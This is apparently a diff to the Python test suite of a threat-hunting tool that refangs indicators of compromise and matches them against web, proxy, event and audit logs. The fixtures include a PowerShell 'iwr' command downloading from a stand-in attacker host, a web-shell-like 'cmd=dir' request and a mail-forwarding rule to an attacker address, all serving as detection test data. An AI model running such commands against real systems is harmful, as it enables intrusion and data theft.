@@ -2,10 +2,12 @@
 
 from __future__ import annotations
 
+import ipaddress
 from datetime import UTC, datetime
 from pathlib import Path
 from typing import Any
 
+import numpy as np
 import pyarrow as pa
 import pytest
 from hypothesis import given
@@ -13,8 +15,10 @@ from hypothesis import strategies as st
 from tests.hunt.archives import archive_of
 
 from dwell.hunt.hunting import Hunted, hunt
-from dwell.hunt.indicators.lists import guessed_kind, read_indicators, refanged
-from dwell.hunt.indicators.match import PLACES
+from dwell.hunt.indicators.indicator import guessed_kind, refanged
+from dwell.hunt.indicators.lookup import AddressIndex, KeyIndex
+from dwell.hunt.indicators.places import MAPS, PLACES, TEXTS, URLS
+from dwell.hunt.indicators.values import EXACT, INSIDE, addresses, addresses_inside, dotted
 from dwell.intake.tables import specs
 from dwell.model.claims import RuleStatus
 
@@ -37,6 +41,12 @@ def found(hunted: Hunted) -> list[dict[str, Any]]:
     ("text", "plain", "kind"),
     [
         ("hxxps://evil[.]example/x", "https://evil.example/x", "url"),
+        ("hxxp[://]evil[.]example/x", "http://evil.example/x", "url"),
+        ("hxxp[:]//evil[.]example/x", "http://evil.example/x", "url"),
+        ("h**p://evil.example/x", "http://evil.example/x", "url"),
+        ("evil[.example", "evil.example", "domain"),
+        ("evil.example/gate.php", "evil.example/gate.php", "url"),
+        ("bücher.example", "bücher.example", "domain"),
         ("198[.]51[.]100[.]7", "198.51.100.7", "address"),
         ("198.51.100.0/24", "198.51.100.0/24", "network"),
         ("2001:db8::1", "2001:db8::1", "address"),
@@ -54,33 +64,6 @@ def found(hunted: Hunted) -> list[dict[str, Any]]:
 def test_values_are_refanged_and_told_apart(text: str, plain: str, kind: str) -> None:
     assert refanged(text) == plain
     assert guessed_kind(plain) == kind
-
-
-def test_values_that_match_nothing_or_everything_are_named_and_the_rest_is_used(tmp_path: Path) -> None:
-    path = written(
-        tmp_path,
-        "# a list\nindicator,type,valid_from,valid_until\n,ip,,\n0.0.0.0/0,cidr,,\n::/0,cidr,,\n0.0.0.0,ip,,\n"
-        "evil.example,ip,,\ncom,domain,,\nzz,md5,,\n\\,filepath,,\nhttp://a.example/,url,,\n"
-        "198.51.100.7,ip,2021-13-01,\n198.51.100.8,ip,2021-03-02,2021-03-01\n198.51.100.9,IPv4-Addr,2021-03-02,\n",
-    )
-    listed = read_indicators([path])
-    assert [one.value for one in listed.items] == ["198.51.100.9"]
-    assert len(listed.faults) == 11
-    assert listed.faults[0].startswith("list.csv:3: ")
-    assert any("/0" in one for one in listed.faults)
-
-
-def test_a_header_names_the_kind_of_a_column(tmp_path: Path) -> None:
-    listed = read_indicators([written(tmp_path, "SHA256;description\n" + "ab" * 32 + ";dropper\n")])
-    assert [(one.kind, one.label, one.source) for one in listed.items] == [("hash", "dropper", "list.csv")]
-
-
-def test_files_that_are_no_lists_are_named(tmp_path: Path) -> None:
-    broken = tmp_path / "broken.txt"
-    broken.write_bytes(b"\xff\xfe\x00x")
-    listed = read_indicators([broken, tmp_path / "nowhere.txt"])
-    assert listed.items == ()
-    assert [one.split(":")[0] for one in listed.faults] == ["broken.txt", "nowhere.txt"]
 
 
 @given(st.text(max_size=200))
@@ -187,6 +170,12 @@ def test_every_place_is_a_text_column_of_its_table() -> None:
         for table, columns in tables.items():
             for column in columns:
                 assert pa.types.is_string(held[table].schema.field(column).type), (table, column)
+    for table, columns in [*TEXTS.items(), *URLS.items()]:
+        for column in filter(None, columns):
+            assert pa.types.is_string(held[table].schema.field(column).type), (table, column)
+    for table, columns in MAPS.items():
+        for column in columns:
+            assert pa.types.is_map(held[table].schema.field(column).type), (table, column)
 
 
 def test_logs_of_all_sorts_are_looked_at(tmp_path: Path) -> None:
@@ -205,3 +194,159 @@ def test_last_seen_ends_a_window(tmp_path: Path) -> None:
     text = "indicator,first_seen,last_seen\n100.64.0.1,2021-01-01,2021-02-01\n"
     rows = [{"c-ip": "100.64.0.1", "time_utc": datetime(2021, 6, 1, tzinfo=UTC)}]
     assert [one["window"] for one in found(searched(tmp_path, text, {"iis": rows}))] == ["after"]
+
+
+def test_two_windows_of_one_value_are_one_indicator_whose_records_count_once(tmp_path: Path) -> None:
+    text = "indicator,valid_from,valid_until\n100.64.0.1,2021-01-01,2021-01-31\n100.64.0.1,2021-01-15,2021-03-01\n"
+    days = [(2020, 12, 1), (2021, 1, 20), (2021, 2, 20), (2022, 1, 1)]
+    rows: list[dict[str, Any]] = [{"c-ip": "100.64.0.1", "time_utc": datetime(*one, tzinfo=UTC)} for one in days]
+    hunted = searched(tmp_path, text, {"iis": rows})
+    assert [(one["window"], one["count"]) for one in found(hunted)] == [
+        ("before", 1),
+        ("inside", 1),
+        ("inside", 1),
+        ("after", 1),
+    ]
+    assert [one.hits for one in hunted.indicators] == [4]
+    assert [one.place for one in hunted.mentions["indicator:address:100.64.0.1"]] == ["2", "3"]
+
+
+def test_a_list_without_a_window_says_nothing_against_one_that_gives_it(tmp_path: Path) -> None:
+    text = "indicator,valid_from,valid_until\n100.64.0.1,,\n100.64.0.1,2021-01-15,2021-03-01\n"
+    rows: list[dict[str, Any]] = [
+        {"c-ip": "100.64.0.1", "time_utc": datetime(2020, 1, 1, tzinfo=UTC)},
+        {"c-ip": "100.64.0.1", "time_utc": None},
+    ]
+    assert [one["window"] for one in found(searched(tmp_path, text, {"iis": rows}))] == ["before", "no-window"]
+
+
+def test_networks_that_hold_each_other_are_all_met(tmp_path: Path) -> None:
+    text = "10.0.0.0/8\n10.1.0.0/16\n10.1.2.0/24\n10.1.2.3\n2001:db8::/32\n2001:db8:1::/48\n198.51.100.0/24\n"
+    rows = [{"c-ip": "10.1.2.3"}, {"c-ip": "10.9.9.9"}, {"c-ip": "2001:DB8:1::7"}, {"c-ip": "::ffff:10.1.9.9"}]
+    met = {
+        (one["rule_id"].partition(":")[2], one["record_no"]) for one in found(searched(tmp_path, text, {"iis": rows}))
+    }
+    assert met == {
+        ("network:10.0.0.0/8", 1),
+        ("network:10.1.0.0/16", 1),
+        ("network:10.1.2.0/24", 1),
+        ("address:10.1.2.3", 1),
+        ("network:10.0.0.0/8", 2),
+        ("network:2001:db8::/32", 3),
+        ("network:2001:db8:1::/48", 3),
+        ("network:10.0.0.0/8", 4),
+        ("network:10.1.0.0/16", 4),
+    }
+
+
+def test_names_are_compared_as_they_travel(tmp_path: Path) -> None:
+    rows = [{"cs-host": "www.xn--bcher-kva.example"}, {"cs-host": "B\u00dcCHER.example"}, {"cs-host": "bucher.example"}]
+    hits = found(searched(tmp_path, "b\u00fccher.example\n", {"iis": rows}))
+    assert sorted(one["record_no"] for one in hits) == [1, 2]
+
+
+def test_urls_are_met_where_a_table_holds_them_whole_or_in_pieces(tmp_path: Path) -> None:
+    text = "hxxps://Evil[.]example/Gate.php?id=7\nhttp://evil.example:8080/a%20b\nhttps://mail.gov.example/owa/x.aspx\n"
+    tables: dict[str, list[dict[str, Any]]] = {
+        "zeek": [
+            {"http_host": "evil.example", "uri": "/gate.php?id=7"},
+            {"http_host": "evil.example", "uri": "/gate.php?id=8"},
+            {"http_host": "evil.example", "uri": "/gate.php"},
+            {"http_host": "evil.example:8080", "uri": "/a b?x=1"},
+            {"http_host": "notevil.example", "uri": "/gate.php?id=7"},
+        ],
+        "squid": [
+            {"url": "http://evil.example/gate.php?id=7"},
+            {"url": "evil.example:443"},
+            {"url": "evil.example:8443"},
+        ],
+        "iis": [
+            {"cs-host": "mail.gov.example", "cs-uri-stem": "/OWA/x.aspx", "cs-uri-query": "cmd=dir"},
+            {"cs-host": "mail.gov.example:443", "cs-uri-stem": "/owa/x.aspx", "cs-uri-query": "-"},
+            {
+                "cs-host": "mail.gov.example",
+                "cs-uri-stem": "/owa/y.aspx",
+                "cs-referer": "https://evil.example/gate.php?id=7",
+            },
+            {"cs-uri-stem": "/owa/x.aspx"},
+        ],
+        "evtx": [{"Channel": "x", "CommandLine": "powershell iwr 'https://evil.example/gate.php?id=7' -o x"}],
+    }
+    hunted = searched(tmp_path, text, tables)
+    met = {(one["rule_id"].split(":", 2)[1], one["table"], one["record_no"]) for one in found(hunted)}
+    assert met == {
+        ("url", "zeek", 1),
+        ("url", "zeek", 4),
+        ("url", "squid", 1),
+        ("url-in-part", "squid", 2),
+        ("url", "iis", 1),
+        ("url", "iis", 2),
+        ("url", "iis", 3),
+        ("url", "evtx", 1),
+    }
+    assert "in part" in next(
+        one["title"] for one in found(hunted) if one["rule_id"].startswith("indicator:url-in-part:")
+    )
+    assert sum(one.hits for one in hunted.indicators) == len(met)
+
+
+def test_where_requests_have_no_host_it_is_said_that_urls_cannot_be_met(tmp_path: Path) -> None:
+    rows = [{"cs-uri-stem": "/owa/x.aspx"}]
+    hunted = searched(tmp_path, "https://mail.gov.example/owa/x.aspx\n", {"iis": rows})
+    assert found(hunted) == []
+    assert [one.status for one in hunted.indicators] == [RuleStatus.BLIND]
+    assert "requests have no host" in hunted.indicators[0].reason
+
+
+def test_values_inside_the_parameters_of_audit_records_are_met(tmp_path: Path) -> None:
+    text = "otto@evil.example\nevil.example\n198.51.100.7\nhttps://evil.example/app\n"
+    rows: list[dict[str, Any]] = [
+        {"Parameters": [("Identity", "anna"), ("ForwardTo", "smtp:Otto@Evil.example")]},
+        {"extra": [("ModifiedProperties", '[{"Name":"AppAddress","NewValue":"[\\"https://evil.example/app\\"]"}]')]},
+        {"Parameters": [("ClientIP", "198.51.100.7")], "extra": [("x", None)]},
+        {"Parameters": [("ForwardTo", "otto@notevil.example")]},
+    ]
+    hits = found(searched(tmp_path, text, {"ual": rows}))
+    met = {(one["rule_id"].split(":")[1], one["record_no"], one["matched"][0].split("=")[0]) for one in hits}
+    assert met == {
+        ("email", 1, "ForwardTo"),
+        ("domain", 1, "ForwardTo"),
+        ("domain", 2, "ModifiedProperties"),
+        ("url", 2, "ModifiedProperties"),
+        ("address", 3, "ClientIP"),
+    }
+
+
+V4 = st.integers(0, 2**32 - 1).map(lambda one: str(ipaddress.IPv4Address(one)))
+NEAR = st.integers(0, 255).map(lambda one: f"10.0.{one % 4}.{one}")
+
+
+@given(
+    st.lists(st.tuples(V4 | NEAR, st.integers(8, 32)), max_size=30),
+    st.lists(V4 | NEAR | st.just("-") | st.just("x.y"), max_size=30),
+)
+def test_looking_up_networks_agrees_with_asking_each(spans: list[tuple[str, int]], asked: list[str]) -> None:
+    networks = [ipaddress.ip_network(f"{one}/{length}", strict=False) for one, length in spans]
+    texts = pa.array([str(one) if one.prefixlen < 32 else str(one.network_address) for one in networks], pa.string())
+    index = AddressIndex(texts, np.arange(len(networks)))
+    plain, numbers = dotted(pa.array(asked, pa.string()))
+    text, owner = index.find_dotted(numbers, np.flatnonzero(plain))
+    held = [(at, ipaddress.ip_address(one)) for at, one in enumerate(asked) if one[0].isdigit()]
+    assert list(zip(text.tolist(), owner.tolist(), strict=True)) == [
+        (at, whose) for at, one in held for whose, network in enumerate(networks) if one in network
+    ]
+
+
+@given(st.lists(st.text(max_size=4), max_size=30), st.lists(st.text(max_size=4), max_size=30))
+def test_looking_up_texts_agrees_with_comparing_each(held: list[str], asked: list[str]) -> None:
+    text, owner = KeyIndex(pa.array(held, pa.string()), np.arange(len(held))).find(asked, range(len(asked)))
+    assert list(zip(text.tolist(), owner.tolist(), strict=True)) == [
+        (at, whose) for at, one in enumerate(asked) for whose, other in enumerate(held) if one == other
+    ]
+
+
+@given(st.text(max_size=200))
+def test_no_text_of_evidence_stops_the_search(text: str) -> None:
+    cuts: list[Any] = [*EXACT.values(), *INSIDE.values(), addresses, addresses_inside]
+    for cut in cuts:
+        assert len(cut(text)) <= 2 * len(text) + 2
